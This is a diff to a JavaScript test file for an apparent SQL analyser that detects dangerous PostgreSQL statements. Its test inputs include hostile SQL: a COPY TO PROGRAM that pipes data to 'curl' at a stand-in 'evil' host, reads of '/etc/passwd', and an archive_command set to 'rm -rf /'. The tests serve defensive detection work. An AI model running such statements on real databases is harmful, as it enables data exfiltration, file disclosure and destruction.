@@ -84,8 +84,8 @@ describe('disguised statements are seen for what they are', () => {
     expect(statementsOf("SELECT pg_read_file('/etc/passwd')")[0].functions).toEqual(['pg_read_file']);
     expect(statementsOf("SELECT * FROM pg_catalog.pg_read_file('/etc/passwd')")[0].functions).toEqual(['pg_catalog.pg_read_file']);
     expect(statementsOf('SELECT pg_terminate_backend(pid) FROM pg_stat_activity')[0].functions).toEqual(['pg_terminate_backend']);
-    expect(statementsOf("COPY t TO PROGRAM 'curl -d @- http://evil'")[0].copy).toEqual({ direction: 'to', program: true, file: false, stdio: false });
-    expect(statementsOf("COPY t FROM '/etc/passwd'")[0].copy).toEqual({ direction: 'from', program: false, file: true, stdio: false });
+    expect(statementsOf("COPY t TO PROGRAM 'curl -d @- http://evil'")[0].copy).toMatchObject({ direction: 'to', program: true, file: false, stdio: false });
+    expect(statementsOf("COPY t FROM '/etc/passwd'")[0].copy).toMatchObject({ direction: 'from', program: false, file: true, stdio: false });
     expect(statementsOf("select set_config('standard_conforming_strings','off',false)")[0].settings).toEqual([{ name: 'standard_conforming_strings', value: 'off', constant: 'off', scope: 'session' }]);
     expect(statementsOf("ALTER SYSTEM SET archive_command = 'rm -rf /'")[0]).toMatchObject({ kind: 'alter_system', settings: [{ name: 'archive_command', value: 'rm -rf /' }] });
     expect(statementsOf('DO $$ BEGIN PERFORM pg_sleep(100); END $$')[0].functions).toEqual(['pg_sleep']);
